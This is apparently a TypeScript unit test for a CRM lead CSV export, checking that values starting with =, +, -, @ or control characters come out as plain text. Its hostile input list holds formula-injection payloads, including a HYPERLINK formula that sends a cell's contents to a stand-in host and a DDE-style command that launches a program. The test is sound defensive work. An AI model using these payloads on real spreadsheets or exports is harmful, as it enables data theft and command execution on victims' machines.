import Papa from 'papaparse';
import type { Lead } from '../dataProvider/api';
import { leadsCsv } from './leadsCsv';

const lead = (over: Partial<Lead>): Lead => ({
  id: 'b1f6c9e2-0000-4000-8000-000000000001', createdAt: '2026-12-01T10:00:00.000Z', updatedAt: '2026-12-01T10:00:00.000Z', source: 'web_form',
  fullName: 'Laura Gómez', email: 'laura@acme.mx', phone: '+52 55 1234 5678', jobPosition: 'CTO', companyName: 'Acme', industry: 'Retail',
  location: 'CDMX', age: null, gender: null, status: 'ASSIGNED', stage: 'SQL', priority: 'P1', ownerId: 'r1', owner: { id: 'r1', displayName: 'Rep', email: 'rep1@leadops.dev' },
  assignedAt: null, slaDueAt: null, slaState: 'RUNNING', escalationLevel: 0, firstContactedAt: null, outcome: null, closedAt: null,
  ...over,
}) as Lead;

describe('lead export', () => {
  it('turns what a spreadsheet would run as a formula into plain text', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A2,"Open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1+1', '\r=1+1', '  =1+1', '"=1+1',
    ];
    const csv = leadsCsv(hostile.map((fullName, i) => lead({ fullName, companyName: hostile[(i + 1) % hostile.length]! })));
    const rows = Papa.parse<Record<string, string>>(csv, { header: true }).data;
    expect(rows).toHaveLength(hostile.length);
    rows.forEach((row, i) => {
      expect(row['fullName']).toBe(`'${hostile[i]}`);
      expect(row['companyName']).toBe(`'${hostile[(i + 1) % hostile.length]}`);
    });
  });

  it('leaves ordinary values as they are, and keeps a phone starting with + as text', () => {
    const rows = Papa.parse<Record<string, string>>(leadsCsv([lead({ companyName: 'Grupo "Norte", S.A.' })]), { header: true }).data;
    expect(rows[0]).toMatchObject({ fullName: 'Laura Gómez', companyName: 'Grupo "Norte", S.A.', owner: 'rep1@leadops.dev', stage: 'SQL' });
    // A phone in international form starts with "+": kept readable, but as text (a spreadsheet would compute it).
    expect(rows[0]!['phone']).toBe("'+52 55 1234 5678");
  });
});
